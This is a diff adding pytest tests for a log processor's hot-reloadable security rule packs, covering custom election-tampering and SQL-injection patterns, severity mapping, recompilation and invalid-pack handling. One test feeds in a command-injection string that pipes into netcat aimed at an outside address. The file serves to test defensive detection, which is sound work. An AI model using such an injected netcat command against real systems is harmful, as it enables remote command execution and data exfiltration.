@@ -0,0 +1,142 @@
+# """
+# Tests for hot-reloadable security rule packs
+# """
+
+import json
+import logging
+
+import pytest
+
+import log_processor
+from analysis_cache import AnalysisCache
+from corpus import ATTACK_LINES
+from rule_packs import RulePackProvider, load_rule_pack
+
+CUSTOM_PACK = {
+    "name": "elections",
+    "version": "2024.2",
+    "patterns": {
+        "ballot_tampering": [r"(?i)ballot\s+(tamper|replay)"],
+        "sql_injection": [r"(?i)union\s+select"],
+    },
+    "severity": {"ballot_tampering": "HIGH", "sql_injection": "MEDIUM"},
+}
+
+
+class CountingCompiler:
+    def __init__(self):
+        self.packs = []
+
+    def __call__(self, rule_pack):
+        self.packs.append(rule_pack.label)
+        return log_processor.build_security_matcher(rule_pack)
+
+
+def _write(path, document):
+    path.write_text(json.dumps(document))
+    return str(path)
+
+
+@pytest.fixture
+def rules(monkeypatch, tmp_path):
+    #    """
+    #    Point log_processor at a pack file, restoring the built-in rules afterwards
+    #    """
+    compiler = CountingCompiler()
+    path = _write(tmp_path / "rules.json", CUSTOM_PACK)
+    provider = RulePackProvider(
+        log_processor.BUILTIN_RULE_PACK, compiler, path=path, ttl_seconds=0
+    )
+    monkeypatch.setattr(log_processor, "_rule_pack_provider", provider)
+    monkeypatch.setattr(log_processor, "ACTIVE_RULE_PACK", log_processor.ACTIVE_RULE_PACK)
+    monkeypatch.setattr(
+        log_processor, "SECURITY_PATTERN_MATCHER", log_processor.SECURITY_PATTERN_MATCHER
+    )
+    monkeypatch.setattr(
+        log_processor,
+        "SECURITY_ANALYSIS_CACHE",
+        AnalysisCache(log_processor.SECURITY_PATTERN_MATCHER.analyze),
+    )
+    return provider, compiler, tmp_path / "rules.json"
+
+
+def _process(line):
+    return log_processor.process_log_event(
+        {"id": "1", "timestamp": 1714564800000, "message": line}, "/test"
+    )
+
+
+def test_builtin_severities_keep_first_listed_finding_order():
+    severity = log_processor.determine_severity
+
+    assert severity([{"type": "sql_injection"}]) == "HIGH"
+    assert severity([{"type": "xss_attempt"}, {"type": "sql_injection"}]) == "MEDIUM"
+    assert severity([{"type": "brute_force"}, {"type": "path_traversal"}]) == "MEDIUM"
+    assert severity([{"type": "brute_force"}]) == "LOW"
+
+
+def test_rule_pack_sets_patterns_and_severity(rules):
+    log_processor.refresh_security_rules()
+
+    tampering = _process("ERROR ballot replay detected for precinct 12")
+    injection = _process(ATTACK_LINES[0])
+
+    assert tampering["severity"] == "HIGH"
+    assert tampering["rule_pack"] == "elections@2024.2"
+    assert injection["severity"] == "MEDIUM"
+    assert _process("cmd=ping 127.0.0.1 | nc 10.0.0.50 4444") is None
+    # No keywords in the pack, so the built-in prefilter is not applied
+    assert log_processor.SECURITY_PATTERN_MATCHER.prefilter_keywords is None
+
+
+def test_unchanged_pack_is_not_recompiled(rules):
+    provider, compiler, path = rules
+
+    first = log_processor.refresh_security_rules()
+    path.write_text(json.dumps(CUSTOM_PACK))
+    again = log_processor.refresh_security_rules()
+
+    assert again is first
+    assert compiler.packs == ["elections@2024.2"]
+
+    _write(path, dict(CUSTOM_PACK, version="2024.3"))
+    assert log_processor.refresh_security_rules().label == "elections@2024.3"
+    assert compiler.packs == ["elections@2024.2", "elections@2024.3"]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "{not json",
+        json.dumps(dict(CUSTOM_PACK, patterns={"bad": ["(unclosed"]})),
+        json.dumps(dict(CUSTOM_PACK, severity={"ballot_tampering": "URGENT"})),
+        json.dumps(dict(CUSTOM_PACK, patterns={"bad": ["a(?i)b"]})),
+        json.dumps({"patterns": CUSTOM_PACK["patterns"]}),
+    ],
+)
+def test_invalid_pack_keeps_previous_rules(rules, caplog, content):
+    provider, compiler, path = rules
+    loaded = log_processor.refresh_security_rules()
+
+    path.write_text(content)
+    with caplog.at_level(logging.ERROR):
+        kept = log_processor.refresh_security_rules()
+        log_processor.refresh_security_rules()
+
+    assert kept is loaded
+    assert _process("ballot tamper attempt")["severity"] == "HIGH"
+    assert compiler.packs == ["elections@2024.2"]
+    # A rejected file is only parsed and reported once
+    assert len([r for r in caplog.records if r.levelno == logging.ERROR]) == 1
+
+
+def test_yaml_rule_pack(tmp_path):
+    yaml = pytest.importorskip("yaml")
+    path = tmp_path / "rules.yaml"
+    path.write_text(yaml.safe_dump(CUSTOM_PACK))
+
+    rule_pack = load_rule_pack(str(path))
+
+    assert rule_pack.label == "elections@2024.2"
+    assert rule_pack.patterns == CUSTOM_PACK["patterns"]
+    assert rule_pack.severities == CUSTOM_PACK["severity"]